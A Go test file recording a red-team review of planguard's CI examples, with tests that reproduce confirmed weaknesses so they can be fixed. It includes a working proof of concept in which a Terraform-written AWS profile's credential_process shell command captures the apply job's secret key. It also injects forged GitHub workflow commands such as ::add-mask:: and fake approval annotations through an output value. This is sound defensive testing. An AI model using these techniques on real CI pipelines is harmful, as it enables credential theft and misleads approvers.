package integrations_test

// Attacker review r-21d of the copied CI setups (issue 21: nothing the change
// wrote runs in a job that holds a secret; no plan is applied without the gate
// and the required approvals). Each test is a confirmed problem and fails
// until it is fixed; its comment says how it was found and what it costs.

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/planguard/terraform-provider-planguard/internal/testbin"
)

// r21dTerraform is the Terraform these tests plan and apply with.
func r21dTerraform(t *testing.T) string {
	t.Helper()
	return testbin.Tool(t, "PLANGUARD_TERRAFORM_LATEST", "terraform-latest")
}

// r21dRun runs a command in dir with env and returns its exit code and
// combined output.
func r21dRun(t *testing.T, dir string, env []string, name string, args ...string) (int, string) {
	t.Helper()
	cmd := exec.Command(name, args...)
	cmd.Dir, cmd.Env = dir, env
	out, err := cmd.CombinedOutput()
	if ee, ok := err.(*exec.ExitError); ok {
		return ee.ExitCode(), string(out)
	} else if err != nil {
		t.Fatalf("%s %v: %v", name, args, err)
	}
	return 0, string(out)
}

// r21dPolicy writes a policy (with a fresh trusted key) and its trust file
// into dir, with extra settings appended, and returns the policy's path.
func r21dPolicy(t *testing.T, dir, extra string) string {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(pgBin, "keygen", "--out", filepath.Join(dir, "alice"), "--principal", "alice").CombinedOutput(); err != nil {
		t.Fatalf("keygen: %v\n%s", err, out)
	}
	pub, err := os.ReadFile(filepath.Join(dir, "alice.pub"))
	if err != nil {
		t.Fatal(err)
	}
	writeR21d(t, filepath.Join(dir, "allowed_signers"), `alice namespaces="planguard-approval" `+string(pub))
	p := filepath.Join(dir, "planguard.hcl")
	writeR21d(t, p, "scope = \"prod\"\ntrust {\n  allowed_signers = \"allowed_signers\"\n}\nprotect \"db\" {\n  addresses = [\"credproc_file.db\", \"terraform_data.db\"]\n}\n"+extra)
	return p
}

func writeR21d(t *testing.T, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// Finding 1 (high). A file the change writes during the apply becomes code
// that runs in the apply job, with the apply's credentials, and the gate
// allows it under every documented pin (lock_file, providers).
//
// hashicorp/local's local_file and hashicorp/aws are in most trusted lock
// files. A merged change (or the main plan job's plan-time code, which makes
// the plan) adds:
//
//	resource "local_file" "cfg" { filename = "cfg.ini", content = "[profile ci]\ncredential_process = sh -c '…'" }
//	provider "aws" { alias = "x", shared_config_files = [local_file.cfg.filename], profile = "ci" }
//
// The plan holds only creates: "No destructive changes", ALLOWED. Neither
// provider argument is named like a command, so provider_exec never sees it.
// During `planguard apply`, local_file writes cfg.ini into the clean room, and
// the aliased provider, whose configuration references that resource, is
// configured after it: the AWS SDK runs the profile's credential_process,
// written by the change, in the GitHub apply job (apply role in the
// environment, id-token: write), GitLab's apply job, or as Atlantis's
// tfapply. security.md ("Commands providers run from what planguard does not
// read") says such a file "must come from the job's machine, not the change":
// the apply itself puts it there. Reproduced here with Terraform 1.11.4 and a
// stand-in provider (testdata/credproc: aws's shared-config lookup plus
// local_file), policy with lock_file and providers: the command ran with the
// apply's secret in its environment.
//
// The same write primitive needs no provider trick on GitHub: a local_file
// at /home/runner/work/_actions/aws-actions/configure-aws-credentials/<pinned
// sha>/dist/cleanup/index.js (or actions/checkout's post script) replaces a
// post step that runs after the apply step in the same job, with the apply
// role's credentials and the OIDC request token (reasoned from the runner's
// layout, not run here). On Atlantis, tfapply owns /etc/planguard/apply/, so
// an applied local_file can rewrite the aws-config every later apply uses.
func TestRedteam21dApplyTimeFileRunsAsProviderCode(t *testing.T) {
	tf := r21dTerraform(t)
	dir := t.TempDir()
	bin := filepath.Join(dir, "terraform-provider-credproc")
	build := exec.Command("go", "build", "-trimpath", "-o", bin, "./examples/integrations/testdata/credproc")
	build.Dir = root
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("go build credproc: %v\n%s", err, out)
	}
	const source = "example.com/planguard/credproc"
	mirror := filepath.Join(dir, "mirror")
	testbin.Mirror(t, mirror, source, "0.1.0", bin)
	cfg := filepath.Join(dir, "apply.tfrc") // the job's own CLI configuration, as the examples write it
	writeR21d(t, cfg, fmt.Sprintf("provider_installation {\n  filesystem_mirror {\n    path = %q\n  }\n}\n", mirror))
	env := append(os.Environ(), "TF_CLI_CONFIG_FILE="+cfg, "CHECKPOINT_DISABLE=1", "TF_IN_AUTOMATION=1", "NO_COLOR=1",
		"PLANGUARD_AUTHOR=", "TF_CLI_ARGS=", "TF_CLI_ARGS_plan=", "TF_CLI_ARGS_apply=", "TF_LOG=")

	marker := filepath.Join(dir, "credential-process-ran")
	infra := filepath.Join(dir, "infra")
	os.MkdirAll(infra, 0o755)
	writeR21d(t, filepath.Join(infra, "main.tf"), fmt.Sprintf(`terraform {
  required_providers {
    credproc = { source = %q }
  }
}
# local_file: written during the apply.
resource "credproc_file" "cfg" {
  filename = "cfg.ini"
  content  = "[profile ci]\ncredential_process = sh -c 'echo \"$AWS_SECRET_ACCESS_KEY\" > %s'\n"
}
# aws: shared_config_files and profile; configured after the file exists.
provider "credproc" {
  alias               = "late"
  shared_config_files = [credproc_file.cfg.filename]
  profile             = "ci"
}
resource "credproc_file" "app" {
  provider = credproc.late
  filename = %q
  content  = "hello"
}
`, source, marker, filepath.Join(dir, "app.txt")))
	// What the plan job sees in the checkout: a harmless profile.
	writeR21d(t, filepath.Join(infra, "cfg.ini"), "[profile ci]\ncredential_process = true\n")
	if code, out := r21dRun(t, infra, env, tf, "init", "-input=false", "-no-color"); code != 0 {
		t.Fatalf("init: %s", out)
	}
	lock, err := os.ReadFile(filepath.Join(infra, ".terraform.lock.hcl"))
	if err != nil {
		t.Fatal(err)
	}
	policyDir := filepath.Join(dir, "policy")
	os.MkdirAll(policyDir, 0o755)
	writeR21d(t, filepath.Join(policyDir, "terraform.lock.hcl"), string(lock)) // the reviewed lock file
	pol := r21dPolicy(t, policyDir, fmt.Sprintf("providers = [%q]\nlock_file = \"terraform.lock.hcl\"\n", source))
	if code, out := r21dRun(t, infra, env, tf, "plan", "-input=false", "-no-color", "-out=tfplan"); code != 0 {
		t.Fatalf("plan: %s", out)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the plan already ran the change's command: the test no longer isolates the apply")
	}

	// The apply job: a directory of its own, the plan file, the apply role's secret in the environment.
	job := filepath.Join(dir, "applyjob")
	os.MkdirAll(job, 0o755)
	plan, _ := os.ReadFile(filepath.Join(infra, "tfplan"))
	writeR21d(t, filepath.Join(job, "tfplan"), string(plan))
	code, out := r21dRun(t, job, append(env, "AWS_SECRET_ACCESS_KEY=apply-role-secret"), pgBin, "apply", "--policy", pol,
		"--author", "bob", "--terraform-bin", tf, filepath.Join(job, "tfplan"), "--", "-no-color")
	if got, err := os.ReadFile(marker); err == nil {
		t.Errorf("planguard apply (exit %d) ran a command the change wrote into a file during the apply, with the apply's secret (%q) in its environment: an allowed resource wrote the file, and a provider configuration that references it (shared_config_files + profile, as hashicorp/aws reads them) ran its credential_process; lock_file and providers did not stop it\n%s",
			code, strings.TrimSpace(string(got)), out)
	}
}

// Finding 2 (low). In the GitHub apply job, `planguard apply` passes
// terraform's output straight to the log, and terraform prints a multi-line
// output value as a heredoc: every line of it is a log line, so a line the
// change wrote that starts with "::" is a workflow command in the production
// job (::add-mask:: hides what the job logs after it, ::error/::notice forge
// annotations on the run whose log approvers are told to trust; github-action.md
// says the action turns workflow commands off for text from the plan, but the
// apply step is not the action). Reproduced with Terraform 1.11.4: the raw
// line is printed. The apply step should stop workflow commands
// (::stop-commands:: with a random token) around planguard apply.
func TestRedteam21dApplyOutputIsWorkflowCommands(t *testing.T) {
	tf := r21dTerraform(t)
	dir := t.TempDir()
	env := append(os.Environ(), "CHECKPOINT_DISABLE=1", "TF_IN_AUTOMATION=1", "NO_COLOR=1", "PLANGUARD_AUTHOR=",
		"TF_CLI_ARGS=", "TF_CLI_ARGS_plan=", "TF_CLI_ARGS_apply=", "TF_LOG=")
	writeR21d(t, filepath.Join(dir, "main.tf"), `output "note" {
  value = "ok\n::error title=planguard::approved by alice and bob\n::add-mask::Destroying\n"
}
`)
	if code, out := r21dRun(t, dir, env, tf, "init", "-input=false", "-no-color"); code != 0 {
		t.Fatalf("init: %s", out)
	}
	if code, out := r21dRun(t, dir, env, tf, "plan", "-input=false", "-no-color", "-out=tfplan"); code != 0 {
		t.Fatalf("plan: %s", out)
	}
	pol := r21dPolicy(t, filepath.Join(dir, "policy"), "")
	code, out := r21dRun(t, dir, env, pgBin, "apply", "--policy", pol, "--author", "bob", "--terraform-bin", tf, "tfplan", "--", "-no-color")
	raw := false
	for _, l := range strings.Split(out, "\n") {
		raw = raw || strings.HasPrefix(l, "::error title=planguard::") || strings.HasPrefix(l, "::add-mask::")
	}
	if code != 0 || !raw {
		return // planguard no longer prints the change's text as log lines
	}
	wf := yamlMap(t, readExample(t, "examples/integrations/github-actions/terraform.yml"))
	for _, st := range asList(asMap(asMap(wf["jobs"])["apply"])["steps"]) {
		r := str(asMap(st)["run"])
		if strings.Contains(r, "planguard apply") && !strings.Contains(r, "::stop-commands::") {
			t.Errorf("terraform.yml apply job: planguard apply prints terraform's output (an output value the change wrote, as a heredoc) as raw log lines, and the step does not stop workflow commands: the change writes ::add-mask::, ::error, ::notice into the production job's log\n%s", out)
		}
	}
}

// Finding 3 (low). `--policy-sha256 ""` is no pin: planguard checks (and
// applies) under whatever policy it reads. The GitHub apply job passes
// "${{ vars.PLANGUARD_POLICY_SHA256 }}", which is "" when the variable is
// missing, misnamed, or created as a secret instead of a variable (vars.X
// reads variables only): the apply then runs unpinned, silently, where the
// pin is the guard behind CODEOWNERS (the checklist's "the policy pinned with
// --policy-sha256"). An empty --author is an error for the same reason; an empty
// pin given on the command line should be too (exit 2), or the apply step
// should refuse an empty PLANGUARD_POLICY_SHA256 before it runs.
func TestRedteam21dEmptyPolicyPinIsNoPin(t *testing.T) {
	qs := filepath.Join(root, "examples", "quickstart")
	code, out := r21dRun(t, qs, append(os.Environ(), "PLANGUARD_AUTHOR="), pgBin, "check", "--policy", "planguard.hcl", "--policy-sha256", "", "plan.json")
	if code == 2 {
		return
	}
	wf := yamlMap(t, readExample(t, "examples/integrations/github-actions/terraform.yml"))
	for _, st := range asList(asMap(asMap(wf["jobs"])["apply"])["steps"]) {
		r := str(asMap(st)["run"])
		if strings.Contains(r, "planguard apply") && !strings.Contains(r, `[ -n "$PLANGUARD_POLICY_SHA256" ]`) {
			t.Errorf("terraform.yml apply job: an unset vars.PLANGUARD_POLICY_SHA256 becomes --policy-sha256 \"\", which planguard takes as no pin (check exited %d, not 2), and the step does not refuse an empty pin: the apply runs unpinned without a word\n%s", code, out)
		}
	}
}
